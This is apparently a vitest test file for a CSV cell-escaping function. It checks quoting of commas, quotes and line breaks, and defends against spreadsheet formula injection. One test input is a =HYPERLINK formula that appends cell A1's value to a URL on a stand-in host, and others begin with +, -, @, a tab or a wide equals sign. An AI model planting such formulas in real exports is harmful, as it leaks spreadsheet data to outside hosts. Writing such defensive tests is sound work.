import { expect, test } from 'vitest';
import { csvCell } from '../../../src/commands/detections/csv-cell.ts';

test.each<[string, unknown, string]>([
  ['nothing', null, ''],
  ['an instant', new Date('2026-11-15T00:00:00Z'), '2026-11-15T00:00:00.000Z'],
  ['a plain text', 'sg-1 is open', 'sg-1 is open'],
  ['a comma', 'a,b', '"a,b"'],
  ['quotes', 'the "old" one', '"the ""old"" one"'],
  ['a line end', 'a\nb', '"a\nb"'],
  ['a carriage return', 'a\rb', '"a\rb"'],
  [
    'a formula',
    '=HYPERLINK("https://example.com?"&A1,"x")',
    `"'=HYPERLINK(""https://example.com?""&A1,""x"")"`,
  ],
  ['a sum', '+1', "'+1"],
  ['a difference', '-1', "'-1"],
  ['a function', '@SUM(A1)', "'@SUM(A1)"],
  ['a tab before it', '\t=1', "'\t=1"],
  ['a wide sign', '＝1', "'＝1"],
  ['a sign that begins nothing', 'a=1', 'a=1'],
])('%s', (_, value, cell) => {
  expect(csvCell(value)).toBe(cell);
});
